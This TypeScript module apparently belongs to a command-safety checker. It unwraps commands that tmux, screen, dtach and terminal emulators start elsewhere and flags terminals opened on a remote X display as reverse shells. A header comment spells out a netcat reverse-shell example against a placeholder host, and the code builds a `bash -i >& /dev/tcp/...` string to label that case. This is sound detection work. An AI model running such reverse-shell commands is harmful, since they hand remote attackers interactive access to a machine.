// Programs that start a command somewhere else: in a detached terminal multiplexer session
// (`tmux new -d 'CMD'`, `screen -dmS x CMD`, `tmux send-keys 'CMD' Enter`), in a new terminal
// window (`xterm -e CMD`, `gnome-terminal -- CMD`), or behind a detaching wrapper (`dtach -n s
// CMD`). The command they start is read as a command of its own, so `tmux new -d 'sh -i 2>&1 |
// nc HOST 53'` is decided like the reverse shell it runs. A terminal opened on another machine's
// X display (`xterm -display HOST:1`, `DISPLAY=HOST:1 xterm`) gives that machine an interactive
// shell here: it reads as the reverse shell it amounts to. Grammar: the tmux(1), screen(1),
// xterm(1), gnome-terminal, konsole, dtach(1) and abduco(1) manual pages.
import { basename } from '../shell-wrappers.js';
import type { Effect } from './types.js';
import type { SimpleCommand } from './walk.js';
import { table } from '../../util/lookup-table.js';

/** tmux commands whose operands are a shell command, and the options of each that take a value. */
const TMUX_RUNS =
  /^(?:new|new-session|neww|new-window|splitw|split-window|respawnp|respawn-pane|respawnw|respawn-window|run|run-shell|popup|display-popup|pipe-pane|pipep)$/;
/** Per tmux command, the options that take a value (the rest are flags). */
const TMUX_VALUE: Record<string, RegExp> = table({
  new: /^-[cefFnstxy]$/,
  neww: /^-[ceFnt]$/,
  splitw: /^-[ceFlt]$/,
  respawnp: /^-[cet]$/,
  run: /^-[dt]$/,
  popup: /^-[bcdehsSTtwxy]$/,
  pipep: /^-[t]$/,
});
const TMUX_ALIAS: Record<string, string> = table({
  'new-session': 'new',
  'new-window': 'neww',
  'split-window': 'splitw',
  'respawn-pane': 'respawnp',
  respawnw: 'respawnp',
  'respawn-window': 'respawnp',
  'run-shell': 'run',
  'display-popup': 'popup',
  'pipe-pane': 'pipep',
});
/** Key names tmux send-keys turns into keystrokes (Enter, C-m ...), not text. */
const TMUX_KEY = /^(?:Enter|KPEnter|C-[mjc]|M-\w|Escape|Tab|Space|BSpace)$/;
/** screen options that take a value. */
const SCREEN_VALUE = /^-[a-zA-Z]*[SceEhpTt]$/;
const TERMINALS =
  /^(?:xterm|uxterm|rxvt|urxvt|rxvt-unicode|st|konsole|gnome-terminal|mate-terminal|xfce4-terminal|tilix|terminator|alacritty|kitty|lxterminal|qterminal|foot|wezterm|x-terminal-emulator|eterm|aterm)$/;

/** argv words as one shell line, quoting those that need it. */
function shellJoin(words: string[]): string {
  return words.map((w) => (/^[\w@%+=:,./~-]+$/.test(w) ? w : `'${w.replace(/'/g, `'\\''`)}'`)).join(' ');
}

/** The words after the options of `args` (options named by `takesValue` consume the next word). */
function operands(args: string[], takesValue: RegExp): string[] {
  for (let i = 0; i < args.length; i++) {
    const w = args[i] ?? '';
    if (w === '--') return args.slice(i + 1);
    if (!w.startsWith('-') || w === '-') return args.slice(i);
    if (takesValue.test(w)) i++;
  }
  return [];
}

function tmuxCommands(a: string[]): string[] {
  // tmux [-2CDluvV] [-L socket] [-S path] [-f file] COMMAND ...; commands chain with ';'
  let i = 1;
  while (i < a.length && (a[i] ?? '').startsWith('-')) i += /^-[LSfcT]$/.test(a[i] ?? '') ? 2 : 1;
  if ((a[i - 1] ?? '') === '-c' && i - 1 >= 1) return [a[i] ?? ''].filter(Boolean); // tmux -c CMD
  const out: string[] = [];
  const rest = a.slice(i);
  const groups: string[][] = [[]];
  for (const w of rest) {
    if (w === ';' || w === '\\;') groups.push([]);
    else groups[groups.length - 1]?.push(w);
  }
  for (const g of groups) {
    const sub = g[0] ?? '';
    if (TMUX_RUNS.test(sub)) {
      const ops = operands(g.slice(1), TMUX_VALUE[TMUX_ALIAS[sub] ?? sub] ?? /^-[ct]$/);
      if (ops.length) out.push(ops.length === 1 ? (ops[0] ?? '') : shellJoin(ops));
    } else if (sub === 'send-keys' || sub === 'send') {
      const ops = operands(g.slice(1), /^-[tN]$/);
      const text = ops.filter((w) => !TMUX_KEY.test(w)).join(' '); // keys are typed as given
      if (text.trim()) out.push(text);
    }
  }
  return out;
}

function screenCommands(a: string[]): string[] {
  const x = a.indexOf('-X');
  if (x >= 0) {
    // screen -S s -X stuff 'CMD\n' types the text into the session
    if (a[x + 1] === 'stuff' && a[x + 2]) return [(a[x + 2] ?? '').replace(/\\n|\\r|\^M/g, '\n')];
    if (a[x + 1] === 'exec' || a[x + 1] === 'screen') return [shellJoin(a.slice(x + 2))];
    return [];
  }
  const ops = operands(a.slice(1), SCREEN_VALUE);
  return ops.length ? [shellJoin(ops)] : [];
}

function terminalCommands(name: string, a: string[]): string[] {
  for (let i = 1; i < a.length; i++) {
    const w = a[i] ?? '';
    if (w === '--' || w === '-x' || w === '--execute') return a.length > i + 1 ? [shellJoin(a.slice(i + 1))] : [];
    if (w === '-e' || w === '--command' || w === '-c') {
      const rest = a.slice(i + 1);
      // gnome-terminal -e/--command take one string; xterm -e takes the rest as argv
      return rest.length
        ? [/^(?:gnome|mate|xfce4|tilix|terminator)/.test(name) ? (rest[0] ?? '') : shellJoin(rest)]
        : [];
    }
    if (w.startsWith('--command=')) return [w.slice(10)];
  }
  return [];
}

/** An X display on another machine: its host, else undefined (`:0`, `unix:0`, localhost are here). */
export function remoteDisplay(value: string): string | undefined {
  const m = /^(?:tcp\/)?(\[[^\]]+\]|[^:/\s]+):(\d+)(?:\.\d+)?$/.exec(value.trim());
  const host = m?.[1]?.replace(/^\[|\]$/g, '').toLowerCase();
  if (!m || !host || /^(?:unix|localhost|127(?:\.\d+){3}|::1|0\.0\.0\.0)$/.test(host)) return undefined;
  return `${host.includes(':') ? `[${host}]` : host}/${6000 + Number(m[2])}`;
}

/** The commands `c` starts elsewhere, each as an exec effect, and a remote X terminal as a reverse shell. */
export function launcherEffects(c: SimpleCommand, out: Effect[]): void {
  const a = c.argv;
  const name = basename(a[0] ?? '').toLowerCase();
  let inner: string[] = [];
  if (name === 'tmux' || name === 'byobu') inner = tmuxCommands(a);
  else if (name === 'screen') inner = screenCommands(a);
  else if (name === 'dtach' || name === 'abduco') {
    const ops = operands(a.slice(2), /^-[rz]$/);
    inner = ops.length ? [shellJoin(ops)] : [];
  } else if (TERMINALS.test(name)) {
    inner = terminalCommands(name, a);
    let display: string | undefined;
    for (let i = 1; i < a.length; i++)
      if (a[i] === '-display' || a[i] === '--display' || a[i] === '-d') display = a[i + 1];
      else if ((a[i] ?? '').startsWith('--display=')) display = (a[i] ?? '').slice(10);
    display ??= c.assigns.find((x) => x.name === 'DISPLAY')?.value;
    const remote = display !== undefined ? remoteDisplay(display) : undefined;
    if (remote)
      out.push({
        tool: 'exec',
        command: `bash -i >& /dev/tcp/${remote} 0>&1`,
        via: `${name} opens a shell on the display of ${remote.replace(/\/\d+$/, '')}`,
      });
  } else return;
  for (const cmd of inner)
    if (cmd.trim()) out.push({ tool: 'exec', command: cmd, via: `${name} starts \`${cmd.slice(0, 80)}\`` });
}
